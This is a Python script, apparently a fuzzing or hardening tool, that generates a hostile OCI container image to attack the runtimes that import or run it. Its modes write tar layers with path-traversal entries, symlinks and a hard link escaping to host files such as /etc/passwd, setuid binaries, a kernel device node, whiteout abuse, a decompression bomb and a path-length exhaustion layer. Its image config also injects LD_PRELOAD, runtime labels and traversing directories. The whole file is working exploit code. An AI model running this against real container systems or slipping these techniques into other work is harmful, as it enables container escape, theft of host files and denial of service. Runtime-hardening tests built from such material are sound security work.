"""Makes an OCI layout whose image attacks whoever imports or runs it.

usage: hostile_image.py DIRECTORY links|mounts|theft|whiteout|bomb|countless|path
  links      entries that climb, links that lead out, set-id and device files; every image has labels and variables for other people's runtimes
  mounts     the same, and a link in the place where the runtime mounts /proc
  theft      the same, and a hard link to a file of the machine's
  whiteout   the same, and a mark that removes what lies above a directory
  bomb       a layer of a few KiB that unpacks to 3 GiB
  countless  more files than any image has
  path       directories nested until no path can name the innermost
"""
import gzip, hashlib, io, json, os, sys, tarfile, zlib

out, kind = sys.argv[1:]
blobs = f"{out}/blobs/sha256"
os.makedirs(blobs)

def blob(data):
    name = hashlib.sha256(data).hexdigest()
    with open(f"{blobs}/{name}", "wb") as f: f.write(data)
    return {"digest": f"sha256:{name}", "size": len(data)}

def entry(name, type=tarfile.REGTYPE, link="", data=b"", mode=0o755, **more):
    e = tarfile.TarInfo(name)
    e.type, e.linkname, e.size, e.mode = type, link, len(data), mode
    for key, value in more.items(): setattr(e, key, value)
    return e, data

def links():
    busybox = open("/bin/busybox", "rb").read()
    escape = b"an image was here\n"
    yield entry("bin", tarfile.DIRTYPE)
    yield entry("bin/busybox", data=busybox)
    yield entry("bin/sleep", tarfile.SYMTYPE, "busybox")
    yield entry("bin/sh", tarfile.SYMTYPE, "busybox")
    yield entry("bin/set-id", data=busybox, mode=0o6755)
    for name in ("../escape-1", "../../../../../../../../tmp/escape-2", "/escape-3", "bin/../../escape-4"): yield entry(name, data=escape)
    yield entry("out", tarfile.SYMTYPE, "../..")
    yield entry("out/escape-5", data=escape)
    yield entry("root-link", tarfile.SYMTYPE, "/")
    yield entry("root-link/tmp/escape-6", data=escape)
    yield entry("home-link", tarfile.SYMTYPE, os.path.dirname(os.path.abspath(out)))
    yield entry("home-link/escape-7", data=escape)
    yield entry("kmsg", tarfile.CHRTYPE, devmajor=1, devminor=11, mode=0o666)
    yield entry("etc", tarfile.SYMTYPE, "/tmp")
    yield entry(".wh..wh..opq", data=b"")

def theft():
    yield from links()
    yield entry("stolen", tarfile.LNKTYPE, "../../../../../../../../etc/passwd")

def mounts():
    yield from links()
    yield entry("proc", tarfile.SYMTYPE, "/sys")

def whiteout():
    yield from links()
    yield entry("var", tarfile.DIRTYPE)
    yield entry("var/.wh...", data=b"")

def path():
    yield from (entry("/".join(["d" * 250] * depth), tarfile.DIRTYPE) for depth in range(1, 41))

def countless():
    yield from (entry(f"d{i // 10000}/f{i}") for i in range(2_100_000))

def members():
    """The layer's gzip stream, member by member: zeros are compressed once, and that member is repeated."""
    head, _ = entry("zeros")
    head.size = 3 << 30
    yield gzip.compress(head.tobuf())
    zeros = gzip.compress(bytes(16 << 20))
    yield from (zeros for _ in range(head.size >> 24))
    yield gzip.compress(bytes(1024))

diff = "sha256:" + "0" * 64  # a bomb is stopped before anybody compares
if kind == "bomb":
    layer = b"".join(members())
else:
    stream, digest = io.BytesIO(), hashlib.sha256()
    pack = zlib.compressobj(1, wbits=31)
    class Packed:
        def write(self, data):
            digest.update(data)
            stream.write(pack.compress(data))
            return len(data)
    with tarfile.open(fileobj=Packed(), mode="w|", format=tarfile.PAX_FORMAT) as tar:
        for e, data in globals()[kind](): tar.addfile(e, io.BytesIO(data))
    stream.write(pack.flush())
    layer, diff = stream.getvalue(), f"sha256:{digest.hexdigest()}"

hostile = {
    "run.oci.handler": "krun", "run.oci.hooks.stdout": "/tmp/escape-label", "io.containerd.cri.runtime-handler": "evil-label",
    "containerd.io/restart.loguri": "binary:///bin/sh?evil-label", "io.kubernetes.cri.container-type": "sandbox", "podstep.io/rootfs": "evil-label",
}
machine = {"x86_64": "amd64", "aarch64": "arm64"}[os.uname().machine]
config = blob(json.dumps({
    "architecture": machine, "os": "linux", "rootfs": {"type": "layers", "diff_ids": [diff]},
    "config": {"Env": ["LD_PRELOAD=/evil-variable.so", "PATH=/evil-variable:/bin", "NVIDIA_VISIBLE_DEVICES=all", "container=evil"],
               "Entrypoint": ["/bin/busybox", "sleep", "5555"], "Labels": hostile, "WorkingDir": "/../../../../tmp",
               "Volumes": {"/": {}, "/../../etc": {}}, "StopSignal": "SIGEVIL", "ExposedPorts": {"-1/evil": {}}}}).encode())
manifest = blob(json.dumps({
    "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "annotations": hostile,
    "config": {"mediaType": "application/vnd.oci.image.config.v1+json", **config},
    "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", **blob(layer), "annotations": hostile}]}).encode())
with open(f"{out}/oci-layout", "w") as f: f.write('{"imageLayoutVersion":"1.0.0"}')
with open(f"{out}/index.json", "w") as f:
    json.dump({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", **manifest,
              "annotations": {"org.opencontainers.image.ref.name": "x", **hostile}}]}, f)
